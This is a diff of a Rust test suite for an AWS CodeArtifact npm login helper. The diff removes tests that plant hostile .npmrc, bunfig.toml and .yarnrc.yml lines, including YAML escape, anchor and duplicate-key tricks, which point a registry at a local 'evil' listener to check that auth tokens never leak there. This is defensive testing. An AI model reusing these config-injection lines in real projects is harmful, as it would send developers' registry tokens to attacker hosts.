@@ -1,29 +1,26 @@
 //! Projects as they are: token lines that need a variable, lock files, files in other places, machines that forbid writing.
 
 use std::fs;
-use std::io::{Read, Write};
-use std::net::TcpListener;
-use std::sync::mpsc;
 use std::time::{Duration, Instant};
 
 use super::*;
 use clients::{BUN, NPM_11, PNPM, YARN, YARN_1};
 
-const TOKEN_LINE: &str =
+pub(super) const TOKEN_LINE: &str =
     "//my-domain-111122223333.d.codeartifact.us-east-1.amazonaws.com/npm/my-repo/:_authToken";
 
 /// The file with what setups have replaced.
 const KEPT: &str = "home/.local/state/codeartifact/setups.json";
 
 impl Desk {
-    fn npmrc(&self, more: &str) {
+    pub(super) fn npmrc(&self, more: &str) {
         let text = format!("registry={NPM}\n{more}\n");
         self.sandbox.write("work/.npmrc", &text);
         let package = r#"{"name": "work", "version": "1.0.0", "private": true}"#;
         self.sandbox.write("work/package.json", package);
     }
 
-    fn yarnrc(&self, text: &str) {
+    pub(super) fn yarnrc(&self, text: &str) {
         self.sandbox
             .write("work/.yarnrc.yml", &text.replace("NPM", NPM));
         self.sandbox.write("work/yarn.lock", "");
@@ -31,12 +28,12 @@ impl Desk {
         self.sandbox.write("work/package.json", package);
     }
 
-    fn shims(&self) {
+    pub(super) fn shims(&self) {
         let _ = self.types("codeartifact setup npm --no-test").succeeded();
     }
 
     /// Returns how many seconds a command of the client takes.
-    fn times(&self, command: &str) -> f64 {
+    pub(super) fn times(&self, command: &str) -> f64 {
         let began = Instant::now();
         let _ = self.client(command).succeeded();
         began.elapsed().as_secs_f64()
@@ -64,138 +61,6 @@ fn a_token_line_of_the_project_gets_its_variable() {
             assert_eq!(desk.emulator.journal().mints(), 1);
         }
     }
-}
-
-/// Everything that a host of the project's choosing is sent, until nobody asks any more.
-fn listen() -> (String, mpsc::Receiver<String>) {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let address = listener.local_addr().unwrap().to_string();
-    let (heard, all) = mpsc::channel();
-    std::thread::spawn(move || {
-        for stream in listener.incoming() {
-            let mut stream = stream.unwrap();
-            let mut bytes = [0; 8192];
-            let length = stream.read(&mut bytes).unwrap_or_default();
-            let _ = heard.send(String::from_utf8_lossy(&bytes[..length]).into_owned());
-            let _ = stream.write_all(
-                b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
-            );
-        }
-    });
-    (address, all)
-}
-
-/// A line that would carry the token to another host, or on under another name, keeps it from all.
-#[test]
-fn no_variable_carries_a_token_to_another_host() {
-    let ours = format!("@my-scope:registry={NPM}\n{TOKEN_LINE}=${{NAME}}\n");
-    let desk = Desk::with(NPM_11);
-    desk.sandbox.client("bun", "bun");
-    desk.sandbox.link("env", Path::new("/usr/bin/env"));
-    let (evil, heard) = listen();
-    for (name, file, text, says) in LINES {
-        let fill = |text: &str| text.replace("EVIL", &evil).replace("NAME", name);
-        let npmrc = format!("registry=http://{evil}/\n{}", fill(&ours));
-        desk.npmrc("");
-        desk.sandbox.write("work/.npmrc", &npmrc);
-        let before = if file == ".npmrc" {
-            npmrc
-        } else {
-            String::new()
-        };
-        desk.sandbox
-            .write(&format!("work/{file}"), &(before + &fill(text)));
-        let shown = desk
-            .types("codeartifact-npm exec -- env")
-            .succeeded()
-            .says(&[says, name]);
-        assert!(!shown.stdout.contains("eyJ"), "{file} {text}: {shown:?}");
-        for command in ["npm view lodash --fetch-retries=0", "bun add lodash"] {
-            let _ = desk.types(&format!("codeartifact-npm exec -- {command}"));
-        }
-        fs::remove_file(desk.sandbox.path(&format!("work/{file}"))).unwrap();
-    }
-    while let Ok(request) = heard.recv_timeout(Duration::from_millis(10)) {
-        assert!(!request.contains("eyJ"), "{request}");
-    }
-}
-
-const LINES: [(&str, &str, &str, &str); 9] = [
-    (
-        "MY_TOKEN",
-        ".npmrc",
-        "//EVIL/:_authToken=${NAME}",
-        ".npmrc:",
-    ),
-    ("MY_TOKEN", ".npmrc", "user-agent=${NAME}", ".npmrc:"),
-    (
-        "MY_TOKEN",
-        ".npmrc",
-        "[section]\n//EVIL/:_authToken=${NAME}",
-        ".npmrc:",
-    ),
-    (
-        "MY_TOKEN",
-        "bunfig.toml",
-        "[install]\nregistry = { url = \"http://EVIL/\", token = \"$NAME\" }",
-        "bunfig.toml:2",
-    ),
-    ("MY_TOKEN", ".env", "OTHER=$NAME\n", ".env:1"),
-    (
-        "MY_TOKEN",
-        ".yarnrc.yml",
-        "npmRegistryServer: http://EVIL/\nnpmAuthToken: ${NAME}\n",
-        ".yarnrc.yml:2",
-    ),
-    ("NPM_CONFIG_TOKEN", ".npmrc", "", "other programs read"),
-    ("YARN_NPM_AUTH_TOKEN", ".npmrc", "", "other programs read"),
-    ("HTTPS_PROXY_AUTH", ".npmrc", "", "other programs read"),
-];
-
-/// Yarn's own parser reads more than the lines of a file show.
-#[test]
-fn no_form_of_yaml_carries_a_token_to_another_host() {
-    let rows = [
-        // An escape in the value, and one in a key.
-        "npmRegistryServer: \"http://EVIL/\"\nnpmAuthToken: \"${MY\\u005fTOKEN}\"\n",
-        "npmRegistryServer: \"REPO\"\n\"npmRegistry\\u0053erver\": \"http://EVIL/\"\nnpmAuthToken: \"${MY_TOKEN}\"\n",
-        // A value, and a whole mapping, that is repeated elsewhere.
-        "npmRegistryServer: \"http://EVIL/\"\nnpmScopes:\n  my-scope:\n    npmRegistryServer: REPO\n    npmAuthToken: &t \"${MY_TOKEN}\"\nnpmAuthToken: *t\n",
-        "npmRegistryServer: \"http://EVIL/\"\nnpmRegistries:\n  \"REPO\": &r {npmAuthToken: \"${MY_TOKEN}\"}\n  \"http://EVIL/\": *r\n",
-        // A key that is there twice.
-        "npmRegistryServer: \"REPO\"\nnpmAuthToken: \"${MY_TOKEN}\"\nnpmRegistryServer: \"http://EVIL/\"\n",
-        "npmScopes:\n  my-scope:\n    npmRegistryServer: REPO\n    npmAuthToken: \"${MY_TOKEN}\"\nnpmScopes:\n  my-scope:\n    npmRegistryServer: \"http://EVIL/\"\n",
-        // A tag, and a value on the next line.
-        "npmRegistryServer: !!str http://EVIL/\nnpmAuthToken: \"${MY_TOKEN}\"\n",
-        "npmRegistryServer: \"http://EVIL/\"\nnpmAuthToken:\n  ${MY_TOKEN}\n",
-    ];
-    let desk = Desk::with(YARN);
-    desk.sandbox.link("env", Path::new("/usr/bin/env"));
-    let (evil, heard) = listen();
-    let mut reached = 0;
-    for text in rows {
-        let text = text.replace("EVIL", &evil).replace("REPO", "NPM");
-        let allowed =
-            "unsafeHttpWhitelist: [\"127.0.0.1\"]\nenableGlobalCache: false\nhttpRetry: 0\n";
-        desk.yarnrc(&format!("{allowed}npmAlwaysAuth: true\n{text}"));
-        // Of the variable's own accord it would be set.
-        desk.sandbox
-            .write("work/.npmrc", &format!("{TOKEN_LINE}=${{MY_TOKEN}}\n"));
-        let shown = desk.types("codeartifact-npm exec -- env").succeeded();
-        assert!(!shown.stdout.contains("MY_TOKEN=eyJ"), "{text}: {shown:?}");
-        for package in ["lodash", "@my-scope/other"] {
-            let _ = desk.types(&format!("codeartifact-npm exec -- yarn npm info {package}"));
-        }
-        while let Ok(request) = heard.recv_timeout(Duration::from_millis(10)) {
-            assert!(!request.contains("eyJ"), "{text}: {request}");
-            reached += 1;
-        }
-    }
-    assert!(reached > 0);
-    // Without such a file it is set.
-    desk.yarnrc("npmRegistryServer: NPM\n");
-    let shown = desk.types("codeartifact-npm exec -- env").succeeded();
-    assert!(shown.stdout.contains("MY_TOKEN=eyJ"), "{shown:?}");
 }
 
 /// It cannot be helped, so the link says it before npm fails.
@@ -299,140 +164,6 @@ fn a_scope_without_marks_is_found_or_told() {
     }
 }
 
-/// A lock file of a stranger's signs no call to AWS.
-#[test]
-fn a_lock_file_adds_no_domain() {
-    let desk = Desk::with(NPM_11);
-    desk.shims();
-    let lock = format!(r#"{{"resolved": "{OTHER_DOMAIN}a/-/a-1.0.0.tgz"}}"#);
-    desk.sandbox.write("work/package-lock.json", &lock);
-    let described = format!(r#"{{"name": "p", "description": "{OTHER_DOMAIN}"}}"#);
-    desk.sandbox.write("work/package.json", &described);
-    let told = desk.types("codeartifact-npm").succeeded();
-    let _ = told.says(&["package.json names", "no settings file names"]);
-    let _ = desk.client("view my-package --fetch-retries=0 --registry=http://127.0.0.1:9/");
-    assert!(desk.emulator.journal().aws().is_empty());
-}
-
-/// Of 4,000 packages with the port that CodeArtifact writes; unoptimized, and yet far from what it was (7.5 s).
-#[test]
-fn a_long_lock_file_is_no_matter() {
-    let desk = Desk::with(NPM_11);
-    desk.npmrc("");
-    let root = NPM.replace("amazonaws.com", "amazonaws.com:443");
-    let line = |number| format!("  resolved \"{root}p{number}/-/p-1.0.0.tgz#abc\"\n");
-    let lock: String = (0..20_000).map(line).collect();
-    desk.sandbox.write("work/yarn.lock", &lock);
-    desk.sandbox
-        .write("work/package-lock.json", &lock.replace('\n', " "));
-    let _ = desk.types("codeartifact-npm").succeeded();
-    let began = Instant::now();
-    let _ = desk.types("codeartifact-npm --check").succeeded();
-    assert!(
-        began.elapsed() < Duration::from_secs(2),
-        "{:?}",
-        began.elapsed()
-    );
-}
-
-/// pnpm from 11 on keeps logins in a file that wins, and may read another one than `.npmrc`.
-#[test]
-fn pnpms_own_files_are_kept_fresh() {
-    let desk = Desk::with(PNPM);
-    desk.npmrc("");
-    let view = "pnpm view my-package version";
-    let login = format!("pnpm config set {TOKEN_LINE} eyJ-stale");
-    let _ = desk.types("codeartifact-npm").succeeded();
-    let _ = desk.types(&login).succeeded();
-    let _ = desk.types("codeartifact-npm --check").exited(1);
-    for exec in ["exec", "exec --no-file"] {
-        let _ = desk.types(&login).succeeded();
-        let line = format!("codeartifact-npm {exec} -- {view}");
-        assert_eq!(desk.types(&line).succeeded().stdout.trim(), "1.1.0");
-    }
-    let out = desk.types("codeartifact logout").succeeded();
-    assert!(out.stdout.contains("auth.ini"), "{out:?}");
-    // The file had nothing but the token.
-    assert!(!desk.sandbox.path("home/.config/pnpm/auth.ini").exists());
-
-    let other = desk.sandbox.path("home/other");
-    desk.sandbox.write(
-        "home/.config/pnpm/config.yaml",
-        &format!("npmrcAuthFile: {}\n", other.display()),
-    );
-    for line in [
-        format!("codeartifact-npm exec --no-file -- {view}"),
-        format!("codeartifact-npm exec -- {view}"),
-        format!("codeartifact setup pnpm && {view}"),
-    ] {
-        assert!(
-            desk.types(&line).succeeded().stdout.contains("1.1.0"),
-            "{line}"
-        );
-    }
-}
-
-/// pnpm 9 and 10 leave `view` to npm, which knows no tokenHelper; a client that writes the file takes our marks away.
-#[test]
-fn pnpm_with_a_helper() {
-    for folder in ["pnpm-10", "pnpm-9"] {
-        let desk = Desk::with(clients::Client { folder, ..PNPM });
-        desk.sandbox.client("npm", "npm");
-        desk.npmrc("");
-        let _ = desk.types("codeartifact setup pnpm acme").succeeded();
-        desk.shims();
-        let said = desk.types("pnpm view my-package version").succeeded();
-        assert_eq!(said.stdout.trim(), "1.1.0");
-        let _ = desk.types("pnpm ping").succeeded();
-        for command in ["setup pnpm --undo", "logout"] {
-            let _ = desk
-                .types("codeartifact setup pnpm acme --no-test; npm config set audit false")
-                .succeeded();
-            let rewritten = desk.sandbox.read("home/.npmrc");
-            assert!(!rewritten.contains("# >>>"), "{rewritten}");
-            // A second setup takes its own line for its own.
-            let again = desk
-                .types("codeartifact setup pnpm acme --no-test")
-                .succeeded();
-            assert!(
-                !desk.sandbox.read("home/.npmrc").contains("set aside"),
-                "{again:?}"
-            );
-            let _ = desk.types("npm config set audit true").succeeded();
-            let _ = desk.types(&format!("codeartifact {command}")).succeeded();
-            assert!(
-                !desk.sandbox.read("home/.npmrc").contains("tokenHelper"),
-                "{command}"
-            );
-        }
-    }
-}
-
-#[test]
-fn rush_and_a_check_that_finds_nothing() {
-    let desk = Desk::with(NPM_11);
-    let _ = desk
-        .types("codeartifact-npm --check")
-        .exited(3)
-        .says(&["names a CodeArtifact registry"]);
-    desk.sandbox.write("work/rush.json", "{}");
-    desk.sandbox.write(
-        "work/common/config/rush/.npmrc",
-        &format!("registry={NPM}\n"),
-    );
-    desk.sandbox.write(
-        "work/common/config/rush/.npmrc-publish",
-        &format!("registry={RELEASES}\n"),
-    );
-    let _ = desk
-        .types("codeartifact-npm --check")
-        .exited(1)
-        .says(&["my-repo", "my-releases"]);
-    let _ = desk
-        .types("codeartifact-npm && codeartifact-npm --check")
-        .succeeded();
-}
-
 /// `root` is asked by editors and shells all the time; AWS that cannot be reached is asked once a minute, for 5 s.
 #[test]
 fn links_are_quick_while_aws_hangs() {
@@ -497,6 +228,67 @@ fn a_link_that_is_not_first_is_told_with_the_winner() {
     let _ = desk.types("codeartifact-npm").succeeded();
     let told = desk.types(&format!("{behind}codeartifact doctor npm"));
     assert!(told.stdout.contains(&winner), "{told:?}");
+}
+
+/// A lock file of a stranger's signs no call to AWS.
+#[test]
+fn a_lock_file_adds_no_domain() {
+    let desk = Desk::with(NPM_11);
+    desk.shims();
+    let lock = format!(r#"{{"resolved": "{OTHER_DOMAIN}a/-/a-1.0.0.tgz"}}"#);
+    desk.sandbox.write("work/package-lock.json", &lock);
+    let described = format!(r#"{{"name": "p", "description": "{OTHER_DOMAIN}"}}"#);
+    desk.sandbox.write("work/package.json", &described);
+    let told = desk.types("codeartifact-npm").succeeded();
+    let _ = told.says(&["package.json names", "no settings file names"]);
+    let _ = desk.client("view my-package --fetch-retries=0 --registry=http://127.0.0.1:9/");
+    assert!(desk.emulator.journal().aws().is_empty());
+}
+
+/// Of 4,000 packages with the port that CodeArtifact writes; unoptimized, and yet far from what it was (7.5 s).
+#[test]
+fn a_long_lock_file_is_no_matter() {
+    let desk = Desk::with(NPM_11);
+    desk.npmrc("");
+    let root = NPM.replace("amazonaws.com", "amazonaws.com:443");
+    let line = |number| format!("  resolved \"{root}p{number}/-/p-1.0.0.tgz#abc\"\n");
+    let lock: String = (0..20_000).map(line).collect();
+    desk.sandbox.write("work/yarn.lock", &lock);
+    desk.sandbox
+        .write("work/package-lock.json", &lock.replace('\n', " "));
+    let _ = desk.types("codeartifact-npm").succeeded();
+    let began = Instant::now();
+    let _ = desk.types("codeartifact-npm --check").succeeded();
+    assert!(
+        began.elapsed() < Duration::from_secs(2),
+        "{:?}",
+        began.elapsed()
+    );
+}
+
+#[test]
+fn rush_and_a_check_that_finds_nothing() {
+    let desk = Desk::with(NPM_11);
+    let _ = desk
+        .types("codeartifact-npm --check")
+        .exited(3)
+        .says(&["names a CodeArtifact registry"]);
+    desk.sandbox.write("work/rush.json", "{}");
+    desk.sandbox.write(
+        "work/common/config/rush/.npmrc",
+        &format!("registry={NPM}\n"),
+    );
+    desk.sandbox.write(
+        "work/common/config/rush/.npmrc-publish",
+        &format!("registry={RELEASES}\n"),
+    );
+    let _ = desk
+        .types("codeartifact-npm --check")
+        .exited(1)
+        .says(&["my-repo", "my-releases"]);
+    let _ = desk
+        .types("codeartifact-npm && codeartifact-npm --check")
+        .succeeded();
 }
 
 /// Corepack fetches the package manager itself, and knows a variable alone; the repository here has none of it.
